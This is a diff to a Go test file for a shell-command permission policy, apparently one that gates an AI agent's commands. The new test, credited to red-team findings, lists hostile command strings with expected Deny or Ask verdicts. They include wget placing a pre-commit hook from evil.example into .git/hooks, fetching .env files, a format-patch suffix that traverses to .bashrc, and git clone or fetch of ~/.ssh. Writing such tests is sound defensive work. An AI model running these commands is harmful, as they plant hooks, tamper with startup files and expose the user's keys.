@@ -114,7 +114,7 @@ func TestGitRepositoriesElsewhere(t *testing.T) {
 		{`git clone --separate-git-dir=gd https://h/x/y.git z`, policy.Ask},
 		{`git -C /home/dev/.config clone /home/dev/proj/t/git`, policy.Ask},
 		{`cd /home/dev/.config && git clone /home/dev/proj/t/git`, policy.Ask},
-		{`git -C /home/dev clone /home/dev/proj/t/.ssh`, policy.Ask},
+		{`git -C /home/dev clone /home/dev/proj/t/.ssh`, policy.Deny},
 		{`git -C .git/hooks init`, policy.Deny},
 		{`git -C /etc init`, policy.Ask},
 		{`git update-index --add --cacheinfo 120000,65cac88,lnk`, policy.Ask},
@@ -179,4 +179,35 @@ func TestGrepGlobCommaParts(t *testing.T) {
 			t.Errorf("Grep glob %q: got %s (%s), want %s", tt.glob, d.Action, d.Reason, tt.want)
 		}
 	}
+}
+
+// TestDerivedOutputNames (red team N, N7, N13, N14): files a program
+// names itself are writes the rules see — wget's name after the URL, scp's
+// after the remote path, format-patch's in its directory (a --suffix with
+// a / asks) — and a local repository git takes objects from is read as a
+// tree.
+func TestDerivedOutputNames(t *testing.T) {
+	p := progKPolicy(t, "git", "wget", "scp")
+	wantActions(t, p, []bashCase{
+		{`wget http://evil.example/.env`, policy.Deny},
+		{`wget -P .git/hooks http://evil.example/pre-commit`, policy.Deny},
+		{`wget -q -x -nH -N http://evil.example/.git/config`, policy.Ask},
+		{`wget -r http://evil.example/`, policy.Ask},
+		{`scp evil:.env .`, policy.Deny},
+		{`git format-patch --suffix=/../../.bashrc -1`, policy.Ask},
+		{`git -C /home/dev/.config format-patch -1`, policy.Ask},
+		{`git clone /home/dev/.ssh x`, policy.Deny},
+		{`git clone file:///home/dev/.ssh x`, policy.Deny},
+		{`git fetch /home/dev/.ssh`, policy.Deny},
+		{`git submodule add /home/dev/.ssh s`, policy.Deny},
+		// Ordinary work.
+		{`wget https://example.com/release.tar.gz`, policy.Allow},
+		{`wget -O page.html https://example.com/`, policy.Allow},
+		{`scp host:/var/log/app.log .`, policy.Allow},
+		{`git format-patch -3`, policy.Allow},
+		{`git format-patch -o patches/ main`, policy.Allow},
+		{`git clone https://github.com/x/y.git`, policy.Allow},
+		{`git fetch origin`, policy.Allow},
+		{`git pull --rebase origin main`, policy.Allow},
+	})
 }
